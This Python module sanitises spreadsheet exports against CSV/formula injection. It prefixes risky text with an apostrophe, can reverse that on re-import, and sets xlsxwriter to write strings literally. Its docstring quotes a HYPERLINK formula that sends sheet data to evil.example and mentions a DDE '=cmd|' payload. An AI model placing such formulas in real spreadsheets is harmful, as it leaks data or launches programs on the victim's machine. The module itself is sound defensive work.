"""Text that a spreadsheet shows as text (CSV/formula injection, OWASP "CSV Injection").

Unit names, provinces, justifications, evidence descriptions and question texts are typed by
one person and opened in Excel or LibreOffice by another. A cell starting with "=", "+", "-"
or "@" is run as a formula there (`=HYPERLINK("http://evil.example/?d="&A1,"Klik")` sends the
sheet away; a DDE `=cmd|...` starts a program), and openpyxl itself writes any str starting
with "=" as a formula cell. Every CSV and XLSX writer passes its values through
`spreadsheet_text`, which prefixes such text with an apostrophe.

What counts as a formula: OWASP's first characters (= + - @ tab CR) plus line feed, looked for
also after leading spaces and apostrophes (some importers trim a field before parsing it, and
an apostrophe too many costs nothing). Full-width look-alikes ("＝") are left alone, as OWASP
does. Only str is escaped: numbers, Decimals and dates (a negative score too) stay numbers, so
numeric columns keep sorting and summing.

Text already starting with apostrophes before a trigger gets one more, so that
`spreadsheet_text_read` (used where an exported workbook is imported again) can remove exactly
the apostrophe the export added, and export → import → export stays byte-identical.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _looks_like_formula(text: str) -> bool:
    return text.lstrip(" '").startswith(FORMULA_TRIGGERS)


def spreadsheet_text(value):
    """`value` as a spreadsheet cell that cannot become a formula; non-str values unchanged."""
    if isinstance(value, str) and _looks_like_formula(value):
        return "'" + value
    return value


def spreadsheet_row(values: Iterable) -> list:
    return [spreadsheet_text(value) for value in values]


def spreadsheet_text_read(value):
    """The inverse of `spreadsheet_text`, for a workbook this portal exported and reads back."""
    if isinstance(value, str) and value.startswith("'") and _looks_like_formula(value[1:]):
        return value[1:]
    return value


# xlsxwriter's options for every workbook the portal writes: each str is written as a string,
# so nothing typed by a person becomes a formula, a link or a number.
XLSX_OPTIONS = {
    "in_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}

# The LKE workbooks' fills (the review workbook and the offline one): heads, sections,
# indicators and totals the same grey and blues in both.
SHEET_FILLS = {"head": "#D9D9D9", "section": "#DDE6F0", "indicator": "#EEF3F8", "total": "#FFF2CC"}
